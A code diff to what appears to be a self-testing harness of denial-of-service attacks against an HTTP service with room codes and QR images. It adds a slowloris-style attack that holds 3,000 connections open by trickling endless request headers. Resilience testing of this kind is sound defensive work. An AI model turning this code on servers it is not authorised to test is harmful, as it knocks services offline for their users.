@@ -13,6 +13,8 @@ MIB: Final = 2**20
 PIECE: Final = 16 * KIB
 AT_ONCE: Final = 60
 """Guesses of codes before an attacker goes on more slowly."""
+_SLOW: Final = 8 * KIB - 200
+"""Bytes of one header of a head that never ends."""
 _REST: Final = 0.2
 """Seconds that an attacker gives the other end to answer nonsense."""
 _TLS: Final = bytes.fromhex("1603010200010001fc0303") + bytes(245)
@@ -55,6 +57,16 @@ async def _long_address(way: Way) -> None:
 async def _header_lines(way: Way) -> None:
     lines = b"".join(b"x-%05d: %040d\r\n" % (number, number) for number in range(300))
     await _endless(way, f"GET / HTTP/1.1\r\nHost: {way.target.name}\r\n", lines)
+
+
+async def _slow_heads(way: Way) -> None:
+    """Begin a request, send some of its head now and then, and never end it."""
+    async with way.link() as link:
+        link.listen()
+        await link.send(f"GET / HTTP/1.1\r\nHost: {way.target.name}\r\n".encode())
+        while True:
+            await way.pace.take(_SLOW)
+            await link.send(b"x: %s\r\n" % (b"b" * _SLOW))
 
 
 async def _heads(way: Way) -> None:
@@ -193,6 +205,9 @@ OVER_HTTP: Final = {
     "long-header": Attack("one header without end", _long_header, 4, 16 * MIB),
     "long-address": Attack("an address without end", _long_address, 4, 16 * MIB),
     "header-lines": Attack("lines of headers without end", _header_lines, 4, 16 * MIB),
+    "slow-heads": Attack(
+        "heads that never end, on 3,000 connections", _slow_heads, 3_000, 8 * MIB, connects=1_000
+    ),
     "bodies": Attack("bodies in pieces without end", _bodies, 8, 16 * MIB),
     "images": Attack("QR codes without pause, 4 connections", _images, 4, 150, answered=True),
     "room-codes": Attack("wrong room codes", _room_codes, 20, 500, answered=True),
